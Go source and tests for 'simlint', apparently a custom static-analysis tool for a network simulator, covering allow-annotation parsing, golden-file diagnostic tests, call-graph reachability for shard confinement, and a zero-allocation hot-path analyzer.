// at file:line, marking the annotation used when it does.
func (idx allowIndex) covers(analyzer, file string, line int) bool {
	lines := idx.byFile[file]
	if lines == nil {
		return false
	}
	hit := false
	for _, l := range [2]int{line, line - 1} {
		if e := lines[l]; e != nil && e.analyzers[analyzer] {
			e.used[analyzer] = true
			hit = true
		}
	}
	return hit
}

// collectAllows scans a package's comments for simlint:allow
// annotations, reporting malformed ones (empty reason, or the
// simlint:allow prefix with unparseable arguments) as diagnostics.
func collectAllows(pkg *Package, diags *[]Diagnostic) allowIndex {
	idx := allowIndex{byFile: make(map[string]map[int]*allowEntry)}
	for _, file := range pkg.Files {
		for _, group := range file.Comments {
			for _, c := range group.List {
				// Only directive-shaped comments count: "//simlint:"
				// at the very start, no space — prose that merely
				// mentions the grammar is ignored.
				text := c.Text
				if !strings.HasPrefix(text, "//simlint:") {
					continue
				}
				if hotpathRe.MatchString(text) {
					// Well-formed hot-path root declaration; consumed by
					// the allocfree engine, not an allow.
					continue
				}
				pos := pkg.Fset.Position(c.Pos())
				bad := func(msg string) {
					*diags = append(*diags, Diagnostic{
						File: pkg.relPath(pos.Filename), Line: pos.Line, Col: pos.Column,
						Analyzer: "allow", Message: msg,
					})
				}
				m := allowRe.FindStringSubmatch(text)
				if m == nil {
					bad("malformed simlint: directive; want //simlint:allow analyzer(reason) or //simlint:hotpath")
					continue
				}
				if strings.TrimSpace(m[2]) == "" {
					bad("simlint:allow " + m[1] + " needs a non-empty reason")
					continue
				}
				lines := idx.byFile[pos.Filename]
				if lines == nil {
					lines = make(map[int]*allowEntry)
					idx.byFile[pos.Filename] = lines
				}
				e := lines[pos.Line]
				if e == nil {
					e = &allowEntry{
						file: pkg.relPath(pos.Filename), line: pos.Line, col: pos.Column,
						analyzers: make(map[string]bool),
						used:      make(map[string]bool),
					}
					lines[pos.Line] = e
					idx.entries = append(idx.entries, e)
				}
				for _, name := range strings.Split(m[1], ",") {
					e.analyzers[strings.TrimSpace(name)] = true
				}
			}
		}
	}
	return idx
}

// reportUnused emits a diagnostic for every annotation naming an
// analyzer that ran but had nothing to suppress. Analyzers outside
// the run set are skipped: a subset run must not condemn annotations
// it never exercised.
func (idx allowIndex) reportUnused(ran map[string]bool, diags *[]Diagnostic) {
	for _, e := range idx.entries {
		for name := range e.analyzers {
			if !ran[name] || e.used[name] {
				continue
			}
			*diags = append(*diags, Diagnostic{
				File: e.file, Line: e.line, Col: e.col,
				Analyzer: "allow",
				Message:  "unused simlint:allow " + name + ": no finding suppressed; remove the stale annotation",
			})
		}
	}
}
