package lint

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite golden diagnostic files")

func newTestLoader(t *testing.T) *Loader {
	t.Helper()
	l, err := NewLoader(".")
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func loadFixture(t *testing.T, l *Loader, rel string) *Package {
	t.Helper()
	pkg, err := l.Load(filepath.Join("internal/lint/testdata", rel))
	if err != nil {
		t.Fatal(err)
	}
	return pkg
}

// checkGolden runs the analyzer over the fixture and compares the
// rendered diagnostics with testdata/golden/<name>.txt.
func checkGolden(t *testing.T, name string, pkgs []*Package, analyzers []Analyzer) {
	t.Helper()
	var b strings.Builder
	for _, d := range Run(pkgs, analyzers) {
		b.WriteString(d.String())
		b.WriteByte('\n')
	}
	got := b.String()
	golden := filepath.Join("testdata", "golden", name+".txt")
	if *update {
		if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("missing golden file (run go test -run %s -update): %v", t.Name(), err)
	}
	if got != string(want) {
		t.Errorf("diagnostics mismatch\n--- got ---\n%s--- want ---\n%s", got, want)
	}
}

func TestWallclock(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "wallclock/clocked")
	checkGolden(t, "wallclock", []*Package{pkg}, []Analyzer{NewWallclock()})
}

func TestWallclockAllowlist(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "wallclock/allowed")
	w := NewWallclock()
	w.AllowPkgs[pkg.Path] = true
	if diags := Run([]*Package{pkg}, []Analyzer{w}); len(diags) != 0 {
		t.Errorf("allowlisted package produced diagnostics: %v", diags)
	}
	// The same package off the allowlist is flagged.
	if diags := Run([]*Package{pkg}, []Analyzer{NewWallclock()}); len(diags) != 1 {
		t.Errorf("expected 1 diagnostic without allowlist, got %v", diags)
	}
}

func TestGlobalRand(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "globalrand/randy")
	checkGolden(t, "globalrand", []*Package{pkg}, []Analyzer{NewGlobalRand()})
}

func TestMapOrder(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "maporder/netsim")
	checkGolden(t, "maporder", []*Package{pkg}, []Analyzer{NewMapOrder()})
}

func TestMapOrderSkipsNonCriticalPackages(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "maporder/netsim")
	m := &MapOrder{CriticalPkgs: map[string]bool{"someotherpkg": true}}
	if diags := Run([]*Package{pkg}, []Analyzer{m}); len(diags) != 1 {
		// Only the reason-less annotation remains; map ranges pass.
		t.Errorf("non-critical package should only report the bad annotation, got %v", diags)
	}
}

func TestSchedBlock(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "schedblock/schedy")
	checkGolden(t, "schedblock", []*Package{pkg}, []Analyzer{NewSchedBlock()})
}

// ownershipSuite returns the pktown/stalecapture pair as an analyzer
// slice (they must run off one shared engine).
func ownershipSuite() []Analyzer {
	pktown, stalecapture := NewOwnership()
	return []Analyzer{pktown, stalecapture}
}

func TestPktOwn(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "pktown/pktfix")
	checkGolden(t, "pktown", []*Package{pkg}, ownershipSuite())
}

// TestPktOwnUAF pins the deliberate use-after-release fixture — the
// same code internal/netsim/sanitize_test.go executes under -tags
// simdebug — to its exact file:line.
func TestPktOwnUAF(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "pktown/uaf")
	diags := Run([]*Package{pkg}, ownershipSuite())
	checkGolden(t, "pktown_uaf", []*Package{pkg}, ownershipSuite())
	if len(diags) != 1 || diags[0].Analyzer != "pktown" ||
		diags[0].File != "internal/lint/testdata/pktown/uaf/uaf.go" {
		t.Fatalf("want exactly one pktown finding in uaf.go, got %v", diags)
	}
}

func TestStaleCapture(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "stalecapture/stalefix")
	checkGolden(t, "stalecapture", []*Package{pkg}, ownershipSuite())
}

// TestAllowMulti covers the extended allow grammar: comma-separated
// analyzer lists, digits in names, and malformed-annotation
// diagnostics.
func TestAllowMulti(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "allowlist/multi")
	checkGolden(t, "allowmulti", []*Package{pkg}, ownershipSuite())
}

// TestRunOrdering: Run's output must be totally ordered by
// (file, line, col, analyzer, message) — the stability contract
// cmd/simlint documents for both text and -json output.
func TestRunOrdering(t *testing.T) {
	l := newTestLoader(t)
	pkgs := []*Package{
		loadFixture(t, l, "pktown/pktfix"),
		loadFixture(t, l, "stalecapture/stalefix"),
	}
	diags := Run(pkgs, ownershipSuite())
	if len(diags) < 2 {
		t.Fatalf("expected several findings, got %v", diags)
	}
	less := func(a, b Diagnostic) bool {
		if a.File != b.File {
			return a.File < b.File
		}
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		if a.Col != b.Col {
			return a.Col < b.Col
		}
		if a.Analyzer != b.Analyzer {
			return a.Analyzer < b.Analyzer
		}
		return a.Message < b.Message
	}
	for i := 1; i < len(diags); i++ {
		if less(diags[i], diags[i-1]) {
			t.Errorf("diagnostics out of order at %d: %v before %v", i, diags[i-1], diags[i])
		}
	}
}

// TestRepoClean is the acceptance gate in unit-test form: the default
// suite over every package in the module must come back empty, i.e.
// `go run ./cmd/simlint ./...` exits 0 on this tree.
func TestRepoClean(t *testing.T) {
	if testing.Short() {
		t.Skip("type-checks the whole module; skipped in -short mode")
	}
	l := newTestLoader(t)
	pkgs, err := l.LoadAll(".")
	if err != nil {
		t.Fatal(err)
	}
	if len(pkgs) < 20 {
		t.Fatalf("loaded only %d packages; module walk is broken", len(pkgs))
	}
	for _, d := range Run(pkgs, DefaultSuite()) {
		t.Errorf("unexpected finding: %s", d)
	}
}

// confinementSuite returns a fresh shardconfine/crossnode pair; the
// two share one reachability engine, so they must be run together.
func confinementSuite() []Analyzer {
	shard, cross := NewShardConfinement()
	return []Analyzer{shard, cross}
}

// TestShardConfine covers the shardconfine fixture: a package-level
// write in a method-value handler, a captured foreign-node mutation,
// and the audited-allow escape hatch staying quiet.
func TestShardConfine(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "shardconfine/confined")
	checkGolden(t, "shardconfine", []*Package{pkg}, confinementSuite())
}

// TestCrossNode covers the crossnode fixture: registry-lookup,
// control-plane-state, and neighbor-pointer crossings.
func TestCrossNode(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "crossnode/crossmut")
	checkGolden(t, "crossnode", []*Package{pkg}, confinementSuite())
}

// TestConfineForeign pins the deliberate foreign-node mutation — the
// same code internal/netsim/confine_test.go executes under -tags
// simdebug — to its exact file:line, mirroring TestPktOwnUAF's
// one-bug-two-catchers contract.
func TestConfineForeign(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "confine/foreign")
	diags := Run([]*Package{pkg}, confinementSuite())
	checkGolden(t, "confine_foreign", []*Package{pkg}, confinementSuite())
	if len(diags) != 1 || diags[0].Analyzer != "shardconfine" ||
		diags[0].File != "internal/lint/testdata/confine/foreign/foreign.go" {
		t.Fatalf("want exactly one shardconfine finding in foreign.go, got %v", diags)
	}
}

// TestUnusedAllows covers the -unused-allows audit: the stale
// annotation is reported, the live suppression is not.
func TestUnusedAllows(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "allowlist/unused")
	diags := RunWith([]*Package{pkg}, confinementSuite(), RunOpts{UnusedAllows: true})
	if len(diags) != 1 {
		t.Fatalf("want exactly one diagnostic (the stale allow), got %v", diags)
	}
	d := diags[0]
	if d.Analyzer != "allow" || !strings.Contains(d.Message, "unused simlint:allow shardconfine") {
		t.Fatalf("want an unused-allow report for the stale annotation, got %v", d)
	}
	if d.File != "internal/lint/testdata/allowlist/unused/unused.go" || d.Line != 22 {
		t.Fatalf("unused-allow report at wrong site: %v", d)
	}
}

// TestInventory exercises the machine-readable artifact: suppressed
// findings come back reclassified as "allowed", surviving ones as
// "violation", and the rows are totally ordered.
func TestInventory(t *testing.T) {
	l := newTestLoader(t)
	pkgs := []*Package{
		loadFixture(t, l, "shardconfine/confined"),
		loadFixture(t, l, "crossnode/crossmut"),
		loadFixture(t, l, "allocfree/hotalloc"),
	}
	inv := BuildInventory(pkgs)
	var violations, allowed, hotpaths int
	for _, e := range inv {
		switch e.Class {
		case "violation":
			violations++
		case "allowed":
			allowed++
		case "hotpath":
			hotpaths++
		case "boundary", "barrier":
		default:
			t.Errorf("unknown inventory class %q in %+v", e.Class, e)
		}
		if e.File == "" || e.Line == 0 || e.Chain == "" {
			t.Errorf("inventory row missing position or chain: %+v", e)
		}
	}
	if violations < 4 {
		t.Errorf("want the fixtures' violations in the inventory, got %d rows: %+v", violations, inv)
	}
	if allowed != 1 {
		t.Errorf("want exactly the Audited suppression as allowed, got %d", allowed)
	}
	if hotpaths != 2 {
		t.Errorf("want the fixture's two //simlint:hotpath roots as hotpath rows, got %d", hotpaths)
	}
	for i := 1; i < len(inv); i++ {
		a, b := inv[i-1], inv[i]
		if a.File > b.File || (a.File == b.File && a.Line > b.Line) {
			t.Errorf("inventory out of order at %d: %+v before %+v", i, a, b)
		}
	}
}

// allocfreeSuite returns a fresh allocfree analyzer; like the other
// engine-backed analyzers it memoizes Prepare, so each Run gets its
// own instance.
func allocfreeSuite() []Analyzer {
	return []Analyzer{NewAllocFree()}
}

// TestAllocFreeHotAlloc pins the deliberate hot-path allocation — the
// same per-event closure internal/sim/allocsentinel_test.go executes
// under -tags simdebug — to its exact file:line, mirroring
// TestPktOwnUAF's one-bug-two-catchers contract. The pre-bound
// BoundPump.Tick in the same fixture must stay silent.
func TestAllocFreeHotAlloc(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "allocfree/hotalloc")
	diags := Run([]*Package{pkg}, allocfreeSuite())
	checkGolden(t, "allocfree_hotalloc", []*Package{pkg}, allocfreeSuite())
	if len(diags) != 1 || diags[0].Analyzer != "allocfree" ||
		diags[0].File != "internal/lint/testdata/allocfree/hotalloc/hotalloc.go" ||
		diags[0].Line != 22 {
		t.Fatalf("want exactly one allocfree finding at hotalloc.go:22, got %v", diags)
	}
}

// TestAllocFreeGrammar covers the hotpath grammar edges: a floating
// directive roots nothing and says so, trailing junk is a malformed
// directive, and a comma-separated allow list naming allocfree
// alongside another analyzer suppresses the finding.
func TestAllocFreeGrammar(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "allocfree/hotgrammar")
	checkGolden(t, "allocfree_grammar", []*Package{pkg}, allocfreeSuite())
}

// TestUnusedAllocAllows covers the -unused-allows audit for the new
// analyzer: the live suppression on the hot make is consumed, the
// stale one on the cold path is reported.
func TestUnusedAllocAllows(t *testing.T) {
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "allowlist/unusedalloc")
	diags := RunWith([]*Package{pkg}, allocfreeSuite(), RunOpts{UnusedAllows: true})
	if len(diags) != 1 {
		t.Fatalf("want exactly one diagnostic (the stale allow), got %v", diags)
	}
	d := diags[0]
	if d.Analyzer != "allow" || !strings.Contains(d.Message, "unused simlint:allow allocfree") {
		t.Fatalf("want an unused-allow report for the stale annotation, got %v", d)
	}
	if d.File != "internal/lint/testdata/allowlist/unusedalloc/unusedalloc.go" || d.Line != 19 {
		t.Fatalf("unused-allow report at wrong site: %v", d)
	}
}

// TestAllocSummaryFixpoint exercises the interprocedural allocSummary
// lattice directly: own sites seed allocating facts, the fixpoint
// propagates them through in-module calls, and seeding a pooled
// constructor in AllocConfig.AllocFree pins it — and everything built
// on it — alloc-free.
func TestAllocSummaryFixpoint(t *testing.T) {
	const pkgpath = "ddosim/internal/lint/testdata/allocfree/hotalloc"
	l := newTestLoader(t)
	pkg := loadFixture(t, l, "allocfree/hotalloc")

	eng := newAllocEngine(DefaultAllocConfig(), DefaultConfineConfig())
	eng.prepare([]*Package{pkg})
	for _, key := range []string{pkgpath + ".Pool.Get", pkgpath + ".FromPool", pkgpath + ".Pump"} {
		if s, ok := eng.summaryFor(key); !ok || !s.allocates {
			t.Errorf("%s: want allocating summary, got %+v (found=%v)", key, s, ok)
		}
	}
	if s, ok := eng.summaryFor(pkgpath + ".BoundPump.Tick"); !ok || s.allocates {
		t.Errorf("BoundPump.Tick: want alloc-free summary, got %+v (found=%v)", s, ok)
	}

	cfg := DefaultAllocConfig()
	cfg.AllocFree[pkgpath+".Pool.Get"] = true
	sanctioned := newAllocEngine(cfg, DefaultConfineConfig())
	sanctioned.prepare([]*Package{pkg})
	if s, ok := sanctioned.summaryFor(pkgpath + ".Pool.Get"); !ok || s.allocates {
		t.Errorf("sanctioned Pool.Get: want pinned alloc-free summary, got %+v (found=%v)", s, ok)
	}
	if s, ok := sanctioned.summaryFor(pkgpath + ".FromPool"); !ok || s.allocates {
		t.Errorf("FromPool over the sanctioned pool: want alloc-free summary, got %+v (found=%v)", s, ok)
	}
}
