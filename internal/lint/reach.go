package lint

// reach.go is the handler-reachability half of the shard-confinement
// engine (confine.go): it decides which functions can execute at
// event time — on the single-threaded scheduler loop today, on a
// partition shard once the kernel goes parallel — and records, for
// each one, the chain of calls that makes it reachable. The chain is
// what turns a finding from "this line writes shared state" into a
// work item: it names the scheduled callback the sharding PR has to
// re-route through the message path.
//
// Handler roots are discovered syntactically, then closed over the
// call graph:
//
//   - function literals and method values passed to the scheduler's
//     entry points (sim.Scheduler.Schedule*, sim.NewTicker) — the
//     precise roots;
//   - function values that escape into module code any other way
//     (stored in a struct field or variable, passed to a
//     module-internal call, returned): the engine cannot see when
//     those run, so it assumes event time. Literals handed to
//     standard-library callees (sort.Slice and friends) are exempt —
//     the stdlib never schedules simulator events, it only calls back
//     synchronously. Literals handed to a ConfineConfig.Barriers
//     runner (ShardSet.WithLP, Scheduler.Barrier) are likewise
//     synchronous, but their bodies are remembered as barrier context:
//     mutations inside them are the sanctioned world-stopped idiom;
//   - every function a reachable unit calls, including interface
//     calls resolved by class-hierarchy analysis over the named types
//     of the run, and every literal nested inside a reachable body.
//
// Packages listed in ConfineConfig.ExemptPkgs (the cmd/ drivers, the
// facade, the report runner) never contribute roots: their closures
// run on the host, off the simulated clock. Functions in them are
// still analyzed when a real handler reaches into them.

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// confUnit is one analysis unit of the confinement engine: a declared
// function or a function literal.
type confUnit struct {
	pkg  *Package
	fn   *types.Func // nil for literals
	lit  *ast.FuncLit
	body *ast.BlockStmt
	sig  *types.Signature
	recv *types.Var
	desc string
	encl *confUnit // lexically enclosing unit, for literals

	root    bool
	rootWhy string // how the unit became a handler root

	// barrier marks a literal handed to a ConfineConfig.Barriers
	// runner: its body executes at an epoch barrier (or during
	// single-threaded setup) with every shard worker parked, so its
	// cross-partition mutations are inventoried, not reported.
	barrier bool

	reached bool
	from    *confUnit // BFS discovery parent
	fromPos token.Pos // call/containment site on the discovery path
}

// inBarrier reports whether the unit's body executes in barrier
// context: it is, or is lexically inside, a barrier-runner literal,
// with no handler-root boundary in between. A root in the lexical
// chain cuts the context — a callback armed inside a barrier body is
// scheduled work that runs later, with the shards live again.
func (u *confUnit) inBarrier() bool {
	for cur := u; cur != nil; cur = cur.encl {
		if cur.barrier {
			return true
		}
		if cur.root {
			return false
		}
	}
	return false
}

// chain renders the discovery path root → … → u for diagnostics and
// the inventory, capped so messages stay readable.
func (u *confUnit) chain() string {
	var parts []string
	for cur := u; cur != nil; cur = cur.from {
		parts = append(parts, cur.desc)
		if cur.from == nil && cur.rootWhy != "" {
			parts = append(parts, cur.rootWhy)
		}
	}
	// Reverse into root-first order.
	for i, j := 0, len(parts)-1; i < j; i, j = i+1, j-1 {
		parts[i], parts[j] = parts[j], parts[i]
	}
	if len(parts) > 5 {
		parts = append(parts[:2], append([]string{"…"}, parts[len(parts)-2:]...)...)
	}
	return strings.Join(parts, " → ")
}

// collectConfUnits walks pkg and builds a unit per function
// declaration and literal, recording lexical nesting.
func (eng *confEngine) collectConfUnits(pkg *Package) []*confUnit {
	var units []*confUnit
	for _, file := range pkg.Files {
		var stack []*confUnit
		var walk func(n ast.Node) bool
		walk = func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.FuncDecl:
				if n.Body == nil {
					return true
				}
				fn, _ := pkg.Info.Defs[n.Name].(*types.Func)
				if fn == nil {
					return true
				}
				sig := fn.Type().(*types.Signature)
				u := &confUnit{
					pkg: pkg, fn: fn, sig: sig, recv: sig.Recv(),
					body: n.Body, desc: funcDesc(fn),
				}
				units = append(units, u)
				eng.byFn[fn] = u
				stack = append(stack, u)
				ast.Inspect(n.Body, walk)
				stack = stack[:len(stack)-1]
				return false
			case *ast.FuncLit:
				sig, _ := pkg.Info.TypeOf(n).(*types.Signature)
				if sig == nil {
					return true
				}
				u := &confUnit{
					pkg: pkg, lit: n, sig: sig, body: n.Body,
					desc: "function literal",
				}
				if len(stack) > 0 {
					u.encl = stack[len(stack)-1]
					u.desc = fmt.Sprintf("literal in %s", u.encl.desc)
				}
				units = append(units, u)
				eng.byLit[n] = u
				stack = append(stack, u)
				ast.Inspect(n.Body, walk)
				stack = stack[:len(stack)-1]
				return false
			}
			return true
		}
		ast.Inspect(file, walk)
	}
	return units
}

// markRoots scans pkg for handler roots. Function values in call
// position are classified by their callee: scheduler entries make
// precise roots, other module-internal (or unresolvable) callees make
// escaping roots, standard-library callees are synchronous. Function
// values anywhere else — assignments, composite literals, returns —
// escape.
func (eng *confEngine) markRoots(pkg *Package) {
	if eng.isExemptPkg(pkg.Path) {
		return
	}
	// decided records literals and func-valued expressions whose fate a
	// parent CallExpr already chose, so the default escape rule below
	// does not double-classify them.
	decided := make(map[ast.Node]bool)
	pos := func(p token.Pos) string {
		position := pkg.Fset.Position(p)
		return fmt.Sprintf("%s:%d", pkg.relPath(position.Filename), position.Line)
	}
	for _, file := range pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.CallExpr:
				decided[ast.Unparen(n.Fun)] = true // call position, not a value
				callee := eng.funcFor(pkg, n)
				sched := callee != nil && callee.Pkg() != nil &&
					callee.Pkg().Path() == eng.cfg.SchedPkg && isSchedulingEntry(callee)
				barrier := callee != nil && eng.cfg.Barriers[funcKey(callee)]
				sync := callee != nil && callee.Pkg() != nil && !eng.inModule(callee.Pkg().Path())
				for _, arg := range n.Args {
					arg = ast.Unparen(arg)
					fv := eng.funcValue(pkg, arg)
					if fv == nil {
						continue
					}
					decided[arg] = true
					switch {
					case barrier:
						// Barrier-runner argument: runs synchronously on
						// the caller's context with the world stopped —
						// not a root; reached (if at all) through its
						// enclosing unit, and reported in barrier mode.
						fv.barrier = true
					case sched:
						eng.setRoot(fv, fmt.Sprintf("scheduled callback (%s.%s at %s)",
							pathBase(eng.cfg.SchedPkg), callee.Name(), pos(arg.Pos())))
					case sync:
						// Standard-library higher-order callee: the
						// callback runs synchronously, on the caller's
						// context.
					default:
						eng.setRoot(fv, fmt.Sprintf("callback escaping at %s", pos(arg.Pos())))
					}
				}
			case *ast.FuncLit:
				if decided[n] {
					return true
				}
				decided[n] = true
				if u := eng.byLit[n]; u != nil {
					eng.setRootUnit(u, fmt.Sprintf("callback escaping at %s", pos(n.Pos())))
				}
			case *ast.SelectorExpr:
				// The Sel ident is part of this selector, never an
				// independent function value of its own.
				decided[n.Sel] = true
				if decided[n] {
					return true
				}
				fn, isValue := eng.methodValue(pkg, n)
				if isValue && fn != nil {
					decided[n] = true
					eng.setRoot(eng.byFn[fn], fmt.Sprintf("bound callback taken at %s", pos(n.Pos())))
				}
			case *ast.Ident:
				if decided[n] {
					return true
				}
				fn, isValue := eng.methodValue(pkg, n)
				if isValue && fn != nil {
					decided[n] = true
					eng.setRoot(eng.byFn[fn], fmt.Sprintf("bound callback taken at %s", pos(n.Pos())))
				}
			}
			return true
		})
	}
}

// funcValue resolves an expression used as a function value: a
// literal, or a reference to a declared function or method. Returns a
// *confUnit-convertible handle (the unit for a literal, the unit of
// the named function), or nil.
func (eng *confEngine) funcValue(pkg *Package, e ast.Expr) *confUnit {
	switch e := e.(type) {
	case *ast.FuncLit:
		return eng.byLit[e]
	case *ast.Ident:
		if fn, ok := pkg.Info.Uses[e].(*types.Func); ok {
			return eng.byFn[fn]
		}
	case *ast.SelectorExpr:
		if fn, ok := pkg.Info.Uses[e.Sel].(*types.Func); ok {
			return eng.byFn[fn]
		}
	}
	return nil
}

// methodValue reports whether e references a declared function or
// method as a value (method-value idiom: da.finishTx, c.accept).
func (eng *confEngine) methodValue(pkg *Package, e ast.Expr) (*types.Func, bool) {
	var id *ast.Ident
	switch e := e.(type) {
	case *ast.Ident:
		id = e
	case *ast.SelectorExpr:
		id = e.Sel
	default:
		return nil, false
	}
	fn, ok := pkg.Info.Uses[id].(*types.Func)
	if !ok || fn.Pkg() == nil || !eng.inModule(fn.Pkg().Path()) {
		return nil, false
	}
	// Only functions with bodies in this run can be roots.
	if eng.byFn[fn] == nil {
		return nil, false
	}
	return fn, true
}

func (eng *confEngine) setRoot(u *confUnit, why string) {
	if u != nil {
		eng.setRootUnit(u, why)
	}
}

func (eng *confEngine) setRootUnit(u *confUnit, why string) {
	if u.root || eng.isExemptPkg(u.pkg.Path) {
		return
	}
	u.root = true
	u.rootWhy = why
}

// funcFor resolves a call's callee like Pass.FuncFor, without a Pass.
func (eng *confEngine) funcFor(pkg *Package, call *ast.CallExpr) *types.Func {
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.SelectorExpr:
		if f, ok := pkg.Info.Uses[fun.Sel].(*types.Func); ok {
			return f
		}
	case *ast.Ident:
		if f, ok := pkg.Info.Uses[fun].(*types.Func); ok {
			return f
		}
	}
	return nil
}

// inModule reports whether path belongs to the module under analysis.
func (eng *confEngine) inModule(path string) bool {
	return path == eng.cfg.Module || strings.HasPrefix(path, eng.cfg.Module+"/")
}

func (eng *confEngine) isExemptPkg(path string) bool {
	for prefix := range eng.cfg.ExemptPkgs {
		if path == prefix || strings.HasPrefix(path, prefix+"/") {
			return true
		}
	}
	return false
}

// callees lists the units u may transfer control to: static calls,
// interface calls resolved by CHA, and nested literals (which run at
// most as late as their enclosing handler, or escape and become roots
// of their own).
func (eng *confEngine) callees(u *confUnit) []calleeEdge {
	var out []calleeEdge
	ast.Inspect(u.body, func(n ast.Node) bool {
		if lit, ok := n.(*ast.FuncLit); ok && lit != u.lit {
			if cu := eng.byLit[lit]; cu != nil {
				out = append(out, calleeEdge{to: cu, pos: lit.Pos()})
			}
			return false // nested literal bodies are their own units
		}
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		fn := eng.funcFor(u.pkg, call)
		if fn == nil {
			return true
		}
		for _, target := range eng.resolve(fn) {
			out = append(out, calleeEdge{to: target, pos: call.Pos()})
		}
		return true
	})
	return out
}

type calleeEdge struct {
	to  *confUnit
	pos token.Pos
}

// resolve maps a called *types.Func to concrete units: itself when it
// has a body in the run, or — for interface methods — every concrete
// method of a named type in the run that implements the interface.
func (eng *confEngine) resolve(fn *types.Func) []*confUnit {
	if u := eng.byFn[fn]; u != nil {
		return []*confUnit{u}
	}
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return nil
	}
	iface, ok := sig.Recv().Type().Underlying().(*types.Interface)
	if !ok {
		return nil
	}
	var out []*confUnit
	for _, named := range eng.namedTypes {
		if !implementsIface(named, iface) {
			continue
		}
		for i := 0; i < named.NumMethods(); i++ {
			m := named.Method(i)
			if m.Name() == fn.Name() {
				if u := eng.byFn[m]; u != nil {
					out = append(out, u)
				}
			}
		}
	}
	return out
}

// implementsIface reports whether named (or *named) implements iface.
func implementsIface(named *types.Named, iface *types.Interface) bool {
	if iface.Empty() {
		return false
	}
	return types.Implements(named, iface) || types.Implements(types.NewPointer(named), iface)
}

// collectNamedTypes gathers the named (non-interface) types of the
// run for CHA resolution and interface provenance checks.
func (eng *confEngine) collectNamedTypes(pkgs []*Package) {
	for _, pkg := range pkgs {
		scope := pkg.Types.Scope()
		for _, name := range scope.Names() {
			tn, ok := scope.Lookup(name).(*types.TypeName)
			if !ok || tn.IsAlias() {
				continue
			}
			named, ok := tn.Type().(*types.Named)
			if !ok {
				continue
			}
			if _, isIface := named.Underlying().(*types.Interface); isIface {
				continue
			}
			eng.namedTypes = append(eng.namedTypes, named)
		}
	}
}

// propagate closes reachability: BFS from the roots over call and
// containment edges, recording discovery parents for chain rendering.
func (eng *confEngine) propagate() {
	var queue []*confUnit
	for _, u := range eng.units {
		if u.root {
			u.reached = true
			queue = append(queue, u)
		}
	}
	for len(queue) > 0 {
		u := queue[0]
		queue = queue[1:]
		for _, e := range eng.callees(u) {
			if e.to.reached {
				continue
			}
			e.to.reached = true
			e.to.from = u
			e.to.fromPos = e.pos
			queue = append(queue, e.to)
		}
	}
}
