package lint

// allocfree.go is the allocation-reachability analyzer behind the
// zero-alloc hot-path contract (DESIGN.md §6i). The kernel's scaling
// story — scheduler events in tens of nanoseconds, flood and
// flow-export paths at 0 allocs/op — is enforced dynamically by
// testing.AllocsPerRun pins on a handful of hand-picked paths; this
// engine makes the same contract a static property of the whole call
// graph. It reuses the reach machinery of the shard-confinement
// engine (reach.go: call graph with CHA interface dispatch, BFS with
// discovery-parent chains) with its own root set:
//
//   - seeded hot-path roots (AllocConfig.Roots, by funcKey): the
//     scheduler's enqueue and run loop;
//   - declared hot-path roots: any function whose doc comment carries
//     the //simlint:hotpath directive (grammar in allow.go).
//
// Every function reachable from a root is swept for allocation
// sites: new/make, escaping composite literals (&T{...}, slice and
// map literals), append growth, interface boxing at call, assign,
// return, and struct-literal-field sites, capturing closures and
// bound method values, string↔[]byte conversions, map writes,
// variadic argument slices, string concatenation, and calls into
// allocating stdlib packages (fmt and friends). Each
// finding carries the reachability chain from its root, the same
// provenance rendering shardconfine uses, so a report is a work item
// — it names the hot entry point the allocation rides on.
//
// Two escape hatches keep the sanctioned amortized-allocation idiom
// expressible. Seeded alloc-free functions (AllocConfig.AllocFree:
// the pooled packet constructor/destructor) are trusted at their
// interface — their free-list refills are amortized O(1) — so the
// BFS does not descend into them and the allocSummary fixpoint
// (mirroring the ownership engine's ownSummary) reports them, and
// every pooled constructor built on them, as alloc-free at steady
// state. Everything else cold-but-reachable (slab growth in the
// scheduler, flow-table inserts, guarded trace events) must carry an
// audited //simlint:allow allocfree(reason) annotation, which the
// -unused-allows audit keeps honest and the -inventory artifact
// records as "allowed" rows alongside the "hotpath" root rows.
//
// Value-struct composite literals, constants converted to
// interfaces, and pointer-shaped values (pointers, maps, channels,
// funcs) boxed into interfaces are not reported: they do not
// allocate. Panic arguments are exempt wholesale — a panicking hot
// path is already dead. Dynamic calls through stored func values
// widen toward silence, like the rest of the suite: the callee
// becomes hot through its own annotation, and the simdebug alloc
// sentinel (internal/sim.AllocSentinel) catches the dynamic side.

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

